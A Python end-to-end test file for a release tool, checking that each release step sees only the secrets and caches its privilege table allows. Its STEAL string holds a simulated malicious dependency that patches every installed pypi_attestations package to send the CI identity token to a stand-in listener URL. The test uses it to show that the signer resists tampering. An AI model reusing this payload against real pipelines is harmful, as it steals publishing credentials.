"""Every command that a release runs, held against the table of what its kind may see."""

from __future__ import annotations

import inspect
import json
import sys
from collections.abc import Sequence
from dataclasses import dataclass, replace
from pathlib import Path

import pytest
import step_recorder
from release_attacks import listening, start
from tests.e2e.bench import Bench, Ended
from tests.e2e.release_bench import EPOCH_S, Description, Outside, Sample

from stiletto.module import worker
from wheelwright.container import privileges, users
from wheelwright.container.privileges import Cache, Credential, Kind

# Where each secret is seen, by name of the variable or path of the file.
SECRETS = {
    "/root/.netrc": Credential.INDEX,
    "GITHUB_TOKEN": Credential.GITHUB,
    "UV_PUBLISH_TOKEN": Credential.UPLOAD,
    "ACTIONS_ID_TOKEN_REQUEST_URL": Credential.IDENTITY,
    "ACTIONS_ID_TOKEN_REQUEST_TOKEN": Credential.IDENTITY,
}
# What is no step of the module: its own process and environment, and the look at the sandbox.
MODULE = {inspect.getsource(worker), "--no-install-project", "true"}
RELEASE = "WHEELWRIGHT_RELEASE"

# Any test can do this to each copy of the program that signs which it finds.
STEAL = '''\
import os
import pathlib

PAYLOAD = """
import os, urllib.request
_token = os.environ.get("ACTIONS_ID_TOKEN_REQUEST_TOKEN", "none").encode()
urllib.request.urlopen(urllib.request.Request("@LISTENER@/sign", _token))
"""


def test_as_any_dependency_could():
    roots = {os.environ.get("UV_CACHE_DIR"), "/cache", "/opt", str(pathlib.Path.home())}
    for root in filter(None, roots):
        # os.walk goes on where a directory vanishes.
        for directory, _, names in os.walk(root):
            path = pathlib.Path(directory, "__init__.py")
            if path.parent.name == "pypi_attestations" and path.name in names:
                path.chmod(0o644)
                path.write_text(path.read_text() + PAYLOAD)
'''


@dataclass(frozen=True)
class RemoteRefs:
    """What one command could see."""

    args: tuple[str, ...]
    env: dict[str, str]
    secrets: tuple[str, ...]
    writable: tuple[str, ...]
    writes: int
    layers: tuple[int, ...]

    @property
    def kind(self) -> Kind:
        """The kind of this step, told by its command alone: what is unknown runs foreign code.

        Outside a release the same commands have caches.
        """
        words = list(self.args)
        if words[0] == "timeout":
            words = words[3:]
        words = users.installed_by(words)
        text = " ".join(words)
        if "refs.py" in text or "tree.py" in text:
            return privileges.DATA if "checkout" in words else privileges.GIT
        if "distributions.py" in text and not {"normalise", "regular"} & {*words}:
            return privileges.DATA
        if "uv publish" in text or words[0] == "pypi-attestations":
            return privileges.UPLOAD
        released = RELEASE in self.env
        if words[:2] == ["uv", "venv"] or (words[0] == "uv" and "--no-build" in words):
            return privileges.DOWNLOAD if released else privileges.INSTALL
        if words[0] in ("sha256sum", "true") or "certificates.py" in text:
            return privileges.DATA
        return privileges.RELEASE if released else privileges.CODE


def recorded(bench: Bench, to: Path) -> Bench:
    """Return the bench whose command writes down what each step sees."""
    return replace(bench, program=[sys.executable, step_recorder.__file__, str(to)])


def seen(path: Path) -> list[RemoteRefs]:
    """Read what was written down, the module's own process and its environment left out."""
    rows = [json.loads(line) for line in path.read_text().splitlines()]
    rows = [row for row in rows if not MODULE & {*row["writable"], *row["args"]}]
    return [
        RemoteRefs(
            tuple(row["args"]),
            row["env"],
            tuple(row["secrets"]),
            tuple(row["writable"]),
            row["writes"],
            tuple(row["layers"]),
        )
        for row in rows
    ]


def wrong(steps: Sequence[RemoteRefs]) -> list[str]:
    """Return each step that saw more than its row of the table gives.

    What foreign code has written to never gets a secret afterwards: neither does a command over a
    layer that it has filled.
    """
    found = []
    wrote: dict[int, RemoteRefs] = {}
    for step in steps:
        row = step.kind
        more = [name for name in step.secrets if SECRETS.get(name) not in row.secrets]
        caches = step.writable if row.cache is Cache.NONE else ()
        if more or caches:
            found.append(f"{row.name}: {' '.join(step.args)} saw {more} {caches}")
        if step.secrets:
            below = [wrote[each] for each in step.layers if each in wrote]
            found += [
                f"{' '.join(step.args)} saw {step.secrets} over {' '.join(each.args)}"
                for each in below
                if each.kind.foreign
            ]
        # The number of a directory that is gone may come again.
        wrote[step.writes] = step
    return found


def connected(steps: Sequence[RemoteRefs]) -> bool:
    """Whether layers are known by their numbers: one step stands on what another has written."""
    written = {step.writes for step in steps}
    return any(written & {*step.layers} for step in steps)


def read(path: Path) -> list[RemoteRefs]:
    """Hold what is true of every call; return its steps."""
    steps = seen(path)
    path.unlink()

    assert [] == wrong(steps)
    return steps


def held(path: Path, ended: Ended) -> list[RemoteRefs]:
    """Hold what is true of every release, or job of one; return its steps."""
    steps = read(path)
    # One release, and nothing that was made before it: not even by `ci` in the same store.
    assert 1 == len({step.env.get(RELEASE) for step in steps} - {None})
    assert [] == [step.args for step in steps if not step.env.get(RELEASE)]
    assert set(ended.cached) <= set(ended.ran), str(ended)
    return steps


@pytest.mark.e2e
@pytest.mark.network
@pytest.mark.slow
def test_every_step_of_a_release_sees_what_the_table_says(
    stiletto: Bench, tmp_path: Path, described: Description
) -> None:
    """Secrets and mounts of each command are those of its row; no earlier result answers one."""
    netrc, steps_file = tmp_path / "netrc", tmp_path / "steps"
    netrc.write_text("machine nowhere.invalid login reader password canary-19d7\n")
    flags = (f"--netrc=file://{netrc}",)
    sample = Sample()
    with Outside(tmp_path / "outside", described) as outside:
        bench = recorded(stiletto, steps_file)
        at = start(bench, outside, tmp_path / "source", sample, {"NOTES.md": "Notes.\n"})
        before = at.call(*flags, "ci", "--git", str(at.clone))
        assert 0 == before.code, str(before)
        assert [] == [step.args for step in seen(steps_file) if "GITHUB_TOKEN" in step.secrets]
        steps_file.unlink()
        ended = at.run(*flags, *at.releasing())
        assert 0 == ended.code, str(ended)
        steps = held(steps_file, ended)

    assert {"/root/.netrc", "GITHUB_TOKEN", "UV_PUBLISH_TOKEN"} == given(steps)
    assert 1 == len([step for step in steps if "UV_PUBLISH_TOKEN" in step.secrets])
    assert set() == {"pytest", "uv build", "twine check", "uv publish", "refs.py"} - words(steps)


def words(steps: Sequence[RemoteRefs]) -> set[str]:
    """Return which of the programs of a release ran."""
    programs = ("pytest", "uv build", "twine check", "uv publish", "refs.py", "sha256sum")
    commands = [" ".join(step.args) for step in steps]
    return {word for word in programs if any(word in command for command in commands)}


def given(steps: Sequence[RemoteRefs]) -> set[str]:
    """Return the secrets that the steps were given."""
    return {name for step in steps for name in step.secrets}


@pytest.mark.e2e
@pytest.mark.network
@pytest.mark.slow
def test_every_step_of_the_jobs_and_of_a_tag_sees_what_the_table_says(
    stiletto: Bench, tmp_path: Path, described: Description
) -> None:
    """The same for each job of a release, and for what plans, verifies and publishes a tag."""
    netrc, steps_file, built = tmp_path / "netrc", tmp_path / "steps", tmp_path / "built"
    netrc.write_text("machine nowhere.invalid login reader password canary-19d7\n")
    with Outside(tmp_path / "outside", described) as outside:
        index, repository = outside.index, outside.repository
        bench = recorded(stiletto, steps_file)
        files = {"NOTES.md": "Notes.\n"}
        at = start(bench, outside, tmp_path / "source", Sample(), files)
        index.trust_project(Sample().name)
        where = ["--publish-url", index.publish_url, "--check-url", index.simple_url]
        where += ["--ca", str(outside.authority.bundle)]
        token = ["--github-token", "env://GITHUB_TOKEN"]
        hub = [*token, "--remote", outside.git.url, "--github-api", outside.api_url, "--run=7"]
        taken, clone = ["--built", str(built)], ["--git", str(at.clone)]
        now = f"--source-date-epoch={EPOCH_S}"

        def job(*words: str) -> list[RemoteRefs]:
            """Run a function that is a release, or a part of one."""
            ended = at.call(f"--netrc=file://{netrc}", *words)
            assert 0 == ended.code, str(ended)
            return held(steps_file, ended)

        def reading(*words: str) -> list[RemoteRefs]:
            """Run a function that only looks."""
            ended = at.call(f"--netrc=file://{netrc}", *words)
            assert 0 == ended.code, str(ended)
            return read(steps_file)

        planning = reading("release-plan", "--bump=patch", *clone, *where, *hub, *at.token)
        build = job("release-build", "--bump=patch", *clone, *where, now, "-o", str(built))
        propose = job("release-propose", *taken, *where, *hub)
        publish = job("release-publish", *taken, *where, *at.trusted)
        finish = job("release-finish", *taken, *where, *hub)
        verifying = reading("verify-tag", "--tag=v1.2.4", *clone, *token)
        # A person has tagged the commit before it, whose version nobody has published.
        repository.git("tag", "--force", "v1.2.3", "main")
        tagged = job("publish", "--tag=v1.2.3", *clone, *where, *token, *at.token)
        versions = {name.split("-")[1].removesuffix(".tar.gz") for name in index.files}

    assert {"1.2.3", "1.2.4"} == versions
    assert connected(build)
    assert connected(propose)
    assert connected(tagged)
    identity = {"ACTIONS_ID_TOKEN_REQUEST_TOKEN", "ACTIONS_ID_TOKEN_REQUEST_URL"}
    # It rehearses the build as well, which downloads with the credential of the index.
    assert {"/root/.netrc", "GITHUB_TOKEN"} == given(planning)
    # It resolves and downloads with the credential of the index, and has nothing else to hold.
    assert {"/root/.netrc"} == given(build)
    assert {"pytest", "uv build", "twine check", "refs.py"} == words(build)
    assert {"GITHUB_TOKEN"} == given(propose) == given(finish)
    assert {"refs.py", "sha256sum"} == words(propose) == words(finish)
    assert identity == given(publish)
    assert {"uv publish", "sha256sum"} == words(publish)
    assert {"GITHUB_TOKEN"} == given(verifying) - {"/root/.netrc"}
    assert {"/root/.netrc", "GITHUB_TOKEN", "UV_PUBLISH_TOKEN"} == given(tagged)
    assert {"pytest", "uv build", "twine check", "uv publish", "refs.py"} == words(tagged)


@pytest.mark.e2e
@pytest.mark.network
@pytest.mark.slow
def test_what_signs_comes_of_a_hashed_list(
    stiletto: Bench, tmp_path: Path, described: Description
) -> None:
    """A test that changes every copy of the signing program it finds learns no identity."""
    steps_file = tmp_path / "steps"
    with listening() as listener, Outside(tmp_path / "outside", described) as outside:
        outside.index.trust_project(Sample().name)
        files = {"tests/test_dependency.py": STEAL.replace("@LISTENER@", listener.url)}
        bench = recorded(stiletto, steps_file)
        at = start(bench, outside, tmp_path / "source", Sample(), files)
        ended = at.release_trusted("--attest=true")
        steps = held(steps_file, ended)
        heard = listener.heard

    assert [] == heard
    signing = [step for step in steps if "pypi-attestations" in step.args]
    listed = "/opt/tools/pypi-attestations.txt"
    assert 1 == len(signing), str(ended)
    (installing,) = [step for step in steps if listed in step.args]
    assert {"--no-build", "--require-hashes"} <= set(installing.args)
